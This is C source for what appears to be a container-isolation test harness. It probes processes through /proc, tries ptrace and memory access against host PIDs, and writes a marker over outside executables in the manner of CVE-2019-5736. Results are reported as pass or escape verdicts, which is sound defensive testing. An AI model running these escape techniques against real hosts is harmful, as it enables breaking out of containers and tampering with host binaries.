/* SPDX-License-Identifier: Apache-2.0 */
/* Attacks on other processes: those that join the container, and those of the host. */
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static unsigned seen, opened, attached;
static int exes[256];
static unsigned n_exes;
static bool leave_memory;

/* By a process that came from outside: its program, its descriptors, its root, its memory. */
static void probe(const char *pid, const char *secret, dev_t inside)
{
	static const char *const folders[] = { "root", "cwd" };
	char path[64];
	struct stat st;
	int fd = -1;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		opened++;
		if (fstat(fd, &st) == 0 && st.st_dev != inside && n_exes < 256) {
			exes[n_exes++] = fd; /* written to once its process is gone */
		} else {
			close(fd);
		}
	}
	for (size_t i = 0; i < 2; i++) {
		snprintf(path, sizeof(path), "/proc/%s/%s", pid, folders[i]);
		fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		if (fd >= 0) {
			finds_secret(fd, secret, path);
			close(fd);
		}
	}
	for (int n = 0; n < 32; n++) {
		snprintf(path, sizeof(path), "/proc/%s/fd/%d", pid, n);
		fd = open(path, O_RDONLY | O_DIRECTORY | O_NONBLOCK | O_CLOEXEC);
		if (fd >= 0) {
			finds_secret(fd, secret, path);
			close(fd);
		}
	}
	snprintf(path, sizeof(path), "/proc/%s/mem", pid);
	fd = leave_memory ? -1 : open(path, O_RDWR | O_CLOEXEC);
	if (fd >= 0) {
		snprintf(path, sizeof(path), "/proc/%s/exe", pid);
		if (stat(path, &st) == 0 && st.st_dev != inside) {
			escaped("watch: memory of %s, which runs a program from outside", pid);
		}
		close(fd);
		attached++;
	}
}

/* The programs that were seen, opened anew for writing (CVE-2019-5736). */
static void overwrite(void)
{
	for (unsigned i = 0; i < n_exes; i++) {
		char path[64], target[512] = "";
		int fd = -1;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", exes[i]);
		ssize_t len = readlink(path, target, sizeof(target) - 1);

		(void)len;
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0) {
			held("watch: %s: %s", target, strerror(errno));
			continue;
		}
		ssize_t r = pwrite(fd, "#!/bin/evil\n", 12, 0);

		verdict(r, target);
		close(fd);
	}
}

/*
 * watch SECRET MILLISECONDS [nomem]: look at every process that appears, until the time is
 * over or somebody makes /tmp/enough.
 */
static int run_watch(int argc, char **argv)
{
	enum { ENOUGH = 5 };   /* to be a test; whoever waits for it reads how far we are */
	struct timespec start, now;
	long limit_ms = argc > 1 ? strtol(argv[1], NULL, 10) : 1000;
	struct stat root;
	char self[16], last[16] = "";

	leave_memory = argc > 2;
	if (argc < 1 || stat("/", &root) < 0) {
		return 2;
	}
	snprintf(self, sizeof(self), "%d", getpid());
	clock_gettime(CLOCK_MONOTONIC, &start);
	printf("watching\n");
	fflush(stdout);
	do {
		DIR *dir = opendir("/proc");
		const struct dirent *d = NULL;

		while (dir && (d = readdir(dir))) {
			if (d->d_name[0] < '0' || d->d_name[0] > '9' || strcmp(d->d_name, "1") == 0 ||
			    strcmp(d->d_name, self) == 0 || strlen(d->d_name) >= sizeof(last)) {
				continue;
			}
			if (strcmp(d->d_name, last) != 0) {
				seen++;
				if (seen <= ENOUGH) {
					printf("saw %u\n", seen);
					fflush(stdout);
				}
				snprintf(last, sizeof(last), "%.15s", d->d_name);
			}
			probe(d->d_name, argv[0], root.st_dev);
		}
		if (dir) {
			closedir(dir);
		}
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (access("/tmp/enough", F_OK) < 0 &&
		 (now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000 < limit_ms);
	overwrite();
	printf("seen %u opened %u outside %u attached %u\n", seen, opened, n_exes, attached);
	return 0;
}

/* reach SECRET PID...: processes of the host, by number and by what /proc shows. */
static int run_reach(int argc, char **argv)
{
	for (int i = 1; i < argc; i++) {
		pid_t pid = (pid_t)strtol(argv[i], NULL, 10);

		verdict(kill(pid, 0), "reach: kill");
		verdict(syscall(SYS_pidfd_open, pid, 0), "reach: pidfd");
		verdict(ptrace(PTRACE_ATTACH, pid, 0, 0), "reach: ptrace");
	}
	for (const char *const *p = (const char *const[]){ "/proc/1/root", "/proc/self/root",
	     "/proc/1/cwd", "/proc/thread-self/root", NULL }; *p; p++) {
		int fd = open(*p, O_RDONLY | O_DIRECTORY | O_CLOEXEC);

		if (fd >= 0 && argc > 0 && !finds_secret(fd, argv[0], *p)) {
			held("reach: %s leads nowhere", *p);
		}
	}
	return 0;
}

/* creds: what the kernel says that we are; the test compares. */
static int run_creds(int argc, char **argv)
{
	uid_t ruid = 0, euid = 0, suid = 0;
	gid_t rgid = 0, egid = 0, sgid = 0, groups[256];
	int n = getgroups(256, groups);
	struct __user_cap_header_struct h = { .version = _LINUX_CAPABILITY_VERSION_3 };
	struct __user_cap_data_struct d[2] = { { 0 } };
	uint64_t bounding = 0, ambient = 0;

	(void)argc;
	(void)argv;
	if (getresuid(&ruid, &euid, &suid) < 0 || getresgid(&rgid, &egid, &sgid) < 0 ||
	    syscall(SYS_capget, &h, d) < 0) {
		return 2;
	}
	for (unsigned i = 0; i < 64; i++) {
		bounding |= prctl(PR_CAPBSET_READ, i, 0, 0, 0) == 1 ? (uint64_t)1 << i : 0;
		ambient |= prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_IS_SET, i, 0, 0) == 1 ? (uint64_t)1 << i : 0;
	}
	printf("uid %u %u %u\ngid %u %u %u\ngroups", ruid, euid, suid, rgid, egid, sgid);
	for (int i = 0; i < n; i++) {
		printf(" %u", groups[i]);
	}
	printf("\neffective %08x%08x\npermitted %08x%08x\ninheritable %08x%08x\n",
	       d[1].effective, d[0].effective, d[1].permitted, d[0].permitted, d[1].inheritable,
	       d[0].inheritable);
	printf("bounding %016llx\nambient %016llx\nkeepcaps %d\nnnp %d\nsecurebits %d\ndumpable %d\n",
	       (unsigned long long)bounding, (unsigned long long)ambient, prctl(PR_GET_KEEPCAPS),
	       prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0), prctl(PR_GET_SECUREBITS), prctl(PR_GET_DUMPABLE));
	return 0;
}

/* tamper PID: a process of the container's own that is still to be what it will be. */
static int run_tamper(int argc, char **argv)
{
	pid_t pid = argc > 0 ? (pid_t)strtol(argv[0], NULL, 10) : 1;
	char path[64], link[256];

	verdict(ptrace(PTRACE_SEIZE, pid, 0, 0), "tamper: ptrace");
	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	verdict(open(path, O_RDWR | O_CLOEXEC), "tamper: memory");
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	verdict(readlink(path, link, sizeof(link)), "tamper: program");
	snprintf(path, sizeof(path), "/proc/%d/fd/3", pid);
	verdict(readlink(path, link, sizeof(link)), "tamper: descriptor");
	return 0;
}

const struct attack attacks_proc[] = {
	{ "tamper", run_tamper, "PID" },
	{ "watch", run_watch, "SECRET MILLISECONDS [nomem]" },
	{ "reach", run_reach, "SECRET PID..." },
	{ "creds", run_creds, "" },
	{ NULL, NULL, NULL },
};
